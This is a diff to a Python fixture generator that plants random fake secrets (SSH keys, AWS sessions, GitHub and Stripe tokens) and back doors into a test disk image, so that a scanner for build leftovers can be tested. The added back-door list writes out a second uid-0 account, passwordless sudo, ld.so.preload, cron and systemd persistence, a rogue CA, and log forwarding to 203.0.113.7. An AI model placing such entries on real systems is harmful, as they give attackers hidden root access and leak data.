@@ -3,6 +3,7 @@
 import base64
 import bz2
 import gzip
+import hashlib
 import io
 import json
 import lzma
@@ -15,13 +16,15 @@ import tarfile
 import tempfile
 import zipfile
 import zlib
-from collections.abc import Callable
-from dataclasses import dataclass
+from collections.abc import Callable, Iterator
+from dataclasses import dataclass, field
 from pathlib import Path
 
 import zstandard
 from cryptography.hazmat.primitives import serialization
 from cryptography.hazmat.primitives.asymmetric import dsa, ec, ed25519, rsa
+
+from pipeline.residue.secrets import AwsSession, BuildSecret, build_secrets
 
 LETTERS = string.ascii_letters + string.digits
 BASE62 = string.digits + string.ascii_uppercase + string.ascii_lowercase
@@ -39,6 +42,15 @@ class Plant:
     content: bytes
     mode: int = 0
     """The file's permissions, where they matter."""
+    also: str = ""
+    """The row about searching that it stands for: R03 for a secret of the build, R04 for what is packed or encoded."""
+
+    @property
+    def rows(self) -> set[str]:
+        """The rows of the catalogue that it violates. What lies in no file is left in free space (S22), or is R05."""
+        in_file = self.where.startswith("file:") or self.where == "fragments"
+        left = set() if in_file else {"S22", "R05"} if self.control == "S04" else {"S22"}
+        return {self.control, *left, *filter(None, [self.also])}
 
 
 @dataclass(frozen=True)
@@ -167,7 +179,87 @@ def padded(pack: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
     return lambda secret: pack(noise() + b"\n" + secret + b"\n" + noise())
 
 
+@dataclass(frozen=True)
+class Build:
+    """What a build used, and must not leave."""
+
+    password: str = field(default_factory=lambda: word(16))
+    token: str = field(default_factory=lambda: word(24))
+    machine_id: str = field(default_factory=lambda: os.urandom(16).hex())
+    key: bytes = field(default_factory=lambda: private_key("ed25519", "OpenSSH"))
+    host_key: bytes = field(default_factory=lambda: public_key("root@build"))
+    session: AwsSession = field(default_factory=lambda: AwsSession(aws_id("ASIA"), aws_secret(), word(200)))
+
+    @property
+    def user_data(self) -> str:
+        """The user-data of the build's instance."""
+        return f"#cloud-config\nchpasswd: {{list: 'admin:{self.password}'}}\nruncmd: [/srv/enrol-{self.token}]\n"
+
+    def secrets(self) -> tuple[BuildSecret, ...]:
+        """Return what is searched for."""
+        return build_secrets(
+            private_keys={"launch key": self.key.decode()},
+            host_public_keys=[self.host_key.decode()],
+            user_data=self.user_data,
+            passwords={"password of admin": self.password},
+            tokens={"enrolment token": self.token},
+            aws_sessions=[self.session],
+            identities={"machine id": self.machine_id},
+        )
+
+    def plants(self) -> Iterator[Plant]:
+        """Yield what it left."""
+        texts = (
+            ("its password in hexadecimal", "H14", "free", self.password.encode().hex().encode()),
+            ("its password in UTF-16", "H14", "swap", self.password.encode("utf-16-le")),
+            ("its token, deleted", "S07", "deleted:/root/enrol.sh", b"curl -H " + self.token.encode() + b" x\n"),
+            ("its token in xz", "S07", "free", padded(lzma.compress)(self.token.encode())),
+            ("its key as a file of another kind", "S03", "free", self.key),
+            ("its user-data", "S11", "file:/opt/app/seed", self.user_data.encode()),
+            ("its host key in base64", "S01", "free", base64.b64encode(b"line " + self.host_key)),
+            ("the operator's secret", "S06", "file:/opt/app/log", b"secret " + self.session.secret_access_key.encode()),
+            ("its machine id in bytes", "S12", "free", bytes.fromhex(self.machine_id)),
+        )
+        for name, control, where, content in texts:
+            yield Plant(name, control, where, content, also="R03")
+
+
+SYSTEM = {
+    "/etc/os-release": b"ID=debian\nVERSION_ID=12\n",
+    "/etc/passwd": b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/:/usr/sbin/nologin\n",
+    "/opt/app/deploy.sh": b"nothing\n",
+    "/usr/bin/tool": b"\x7fELF tool of a package",
+    "/var/lib/dpkg/info/tool.list": b"/.\n/usr/bin/tool\n",
+    "/var/lib/dpkg/info/tool.md5sums": hashlib.md5(b"\x7fELF tool of a package").hexdigest().encode()
+    + b"  usr/bin/tool\n",
+}
+"""A system of one package, which the back doors are planted in."""
+
+
+def back_doors() -> list[Plant]:
+    """Return ways back in, as those who publish an image may leave them."""
+    authority = b"-----BEGIN CERTIFICATE-----\n" + base64.encodebytes(os.urandom(700)) + b"-----END CERTIFICATE-----\n"
+    return [
+        Plant("authority of sshd", "V01", "file:/etc/ssh/sshd_config.d/9.conf", b"TrustedUserCAKeys /etc/ssh/ca\n"),
+        Plant("signer of packages", "V01", "file:/etc/apt/trusted.gpg.d/x.gpg", os.urandom(600)),
+        Plant("second root", "V02", "file:/etc/passwd", SYSTEM["/etc/passwd"] + b"toor:x:0:0::/root:/bin/sh\n"),
+        Plant("sudo without a password", "V02", "file:/etc/sudoers.d/helper", b"daemon ALL=(ALL) NOPASSWD: ALL\n"),
+        Plant("set-user-id program", "V03", "file:/usr/lib/helper", b"\x7fELF" + os.urandom(100), 0o4755),
+        Plant("job of cron", "V04", "file:/etc/cron.d/sync", b"* * * * * root /opt/sync\n"),
+        Plant("unit", "V04", "file:/etc/systemd/system/sync.service", b"[Service]\nExecStart=/opt/sync\n"),
+        Plant("start-up script", "V04", "file:/etc/rc.local", b"#!/bin/sh\n/opt/sync &\n", 0o755),
+        Plant("library for all programs", "V05", "file:/etc/ld.so.preload", b"/usr/lib/libx.so\n"),
+        Plant("changed program", "V05", "file:/usr/bin/tool", b"\x7fELF tool of somebody", 0o755),
+        Plant("certificate authority", "V06", "file:/usr/local/share/ca-certificates/x.crt", authority),
+        Plant("log that is sent away", "V07", "file:/etc/rsyslog.d/x.conf", b"*.* @@203.0.113.7:514\n"),
+        Plant("program of no package", "V08", "file:/usr/local/bin/netd", b"\x7fELF" + os.urandom(100), 0o755),
+        Plant("kernel module", "V09", "file:/usr/lib/modules/6.1.0/extra/x.ko", b"\x7fELF" + os.urandom(100)),
+        Plant("file of no package", "V10", "file:/usr/share/x/data", os.urandom(100)),
+    ]
+
+
 def plants() -> list[Plant]:
+    """Return what images were found to hold, or hold after a careless build; all of it made now."""
     github, stripe = (lambda: checked_token("ghp_")), (lambda: f"sk_live_{word(24)}".encode())
     gz, xz = padded(gzip.compress), padded(lzma.compress)
     key = private_key("ed25519", "OpenSSH")
@@ -192,7 +284,7 @@ def plants() -> list[Plant]:
         Plant("DER key", "S03", "file:/opt/app/key.der", private_key("rsa", "DER")),
         Plant("DER ed25519 key", "S03", "free", private_key("ed25519", "DER")),
         Plant("cut key", "S03", "free", key[: len(key) * 2 // 3]),
-        Plant("key across a join", "S03", "join", private_key("rsa", "OpenSSH")),
+        Plant("key across a join", "S03", "join", private_key("rsa", "OpenSSH"), also="R04"),
         Plant("age key", "S03", "file:/root/keys.txt", age_key() + b"\n"),
         Plant("known host", "S03", "file:/root/.ssh/known_hosts", b"10.0.0.7 " + public_key("")),
         Plant("bash history", "S04", "file:/root/.bash_history", b"something nobody has a pattern for\n"),
@@ -228,7 +320,13 @@ def plants() -> list[Plant]:
             "swap",
             f'{{"AccessKeyId" : "{aws_id("ASIA")}", "SecretAccessKey" : "{aws_secret()}"}}'.encode(),
         ),
-        Plant("AWS secret in UTF-16", "S06", "free", f"aws_secret_access_key={aws_secret()}\r\n".encode("utf-16")),
+        Plant(
+            "AWS secret in UTF-16",
+            "S06",
+            "free",
+            f"aws_secret_access_key={aws_secret()}\r\n".encode("utf-16"),
+            also="R04",
+        ),
         Plant(
             "AWS keys in base64", "S06", "free", base64.b64encode(f"id={aws_id()} secret={aws_secret()} end".encode())
         ),
@@ -245,14 +343,20 @@ def plants() -> list[Plant]:
         Plant("token that sed -i took out", "S07", "edited:/opt/app/deploy.sh", b"#!/bin/sh\n# " + github() + b"\n"),
         Plant("GitHub token before the first partition", "S07", "gap", github()),
         Plant("GitHub token behind the last partition", "S07", "end", github()),
-        Plant("GitHub token in gzip", "S07", "file:/var/backups/notes.gz", gz(github())),
-        Plant("GitHub token in gzip without footer", "S07", "free", gz(github())[:-8]),
-        Plant("GitHub token in xz", "S07", "free", xz(github())),
-        Plant("GitHub token in bzip2", "S07", "free", padded(bz2.compress)(github())),
-        Plant("GitHub token in zstd", "S07", "free", padded(zstandard.compress)(github())),
-        Plant("GitHub token in a zip", "S07", "free", zipped(noise() + github())),
+        Plant("GitHub token in gzip", "S07", "file:/var/backups/notes.gz", gz(github()), also="R04"),
+        Plant("GitHub token in gzip without footer", "S07", "free", gz(github())[:-8], also="R04"),
+        Plant("GitHub token in xz", "S07", "free", xz(github()), also="R04"),
+        Plant("GitHub token in bzip2", "S07", "free", padded(bz2.compress)(github()), also="R04"),
+        Plant("GitHub token in zstd", "S07", "free", padded(zstandard.compress)(github()), also="R04"),
+        Plant("GitHub token in a zip", "S07", "free", zipped(noise() + github()), also="R04"),
         Plant("token in an SQLite database", "S07", "file:/opt/app/app.db", database(github())),
-        Plant("token in a container layer", "S07", "file:/opt/app/layer.tar.gz", layer(b"API=" + github() + b"\n")),
+        Plant(
+            "token in a container layer",
+            "S07",
+            "file:/opt/app/layer.tar.gz",
+            layer(b"API=" + github() + b"\n"),
+            also="R04",
+        ),
         Plant("token in an extended attribute", "S07", "xattr", github()),
         Plant("token cut by fragments", "S07", "fragments", github()),
         Plant("token in a swap partition", "S07", "swap", b"npm " + checked_token("npm_")),
@@ -264,7 +368,7 @@ def plants() -> list[Plant]:
             f"xoxb-{word(12, string.digits)}-{word(12, string.digits)}-{word(24)}".encode(),
         ),
         Plant("Stripe key", "S07", "free", b"STRIPE=" + stripe()),
-        Plant("Stripe key in UTF-16 BE", "S07", "free", stripe().decode().encode("utf-16-be")),
+        Plant("Stripe key in UTF-16 BE", "S07", "free", stripe().decode().encode("utf-16-be"), also="R04"),
         Plant("GitLab token", "S07", "free", f"glpat-{word(20)} ".encode()),
         Plant("JSON web token", "S07", "free", b"Authorization: Bearer " + json_web_token() + b"\n"),
         Plant("PyPI token", "S07", "free", f"pypi-AgEIcHlwaS5vcmc{word(120)}\n".encode()),
@@ -300,6 +404,11 @@ def plants() -> list[Plant]:
         Plant("shadow with a password", "H14", "file:/etc/shadow", shadow("admin")),
         Plant("back-up of shadow", "S09", "file:/etc/shadow-", b"root:*:19700:0:99999:7:::\n"),
         Plant("deleted shadow", "H14", "free", shadow("leaver")),
+        Plant(
+            "sudo of the build's user", "S10", "file:/etc/sudoers.d/90-cloud-init-users", b"admin ALL=NOPASSWD:ALL\n"
+        ),
+        Plant("machine id", "S12", "file:/etc/machine-id", os.urandom(16).hex().encode() + b"\n"),
+        Plant("layer of a container", "S19", "file:/var/lib/docker/overlay2/0a/diff/app/run", b"no pattern\n"),
         Plant("user-data", "S11", "file:/var/lib/cloud/instance/user-data.txt", b"#cloud-config\nruncmd: []\n"),
         Plant("instance id", "S11", "free", f"/var/lib/cloud/instances/i-0{word(16, '0123456789abcdef')}\n".encode()),
         Plant("random seed", "S12", "file:/var/lib/systemd/random-seed", os.urandom(512)),
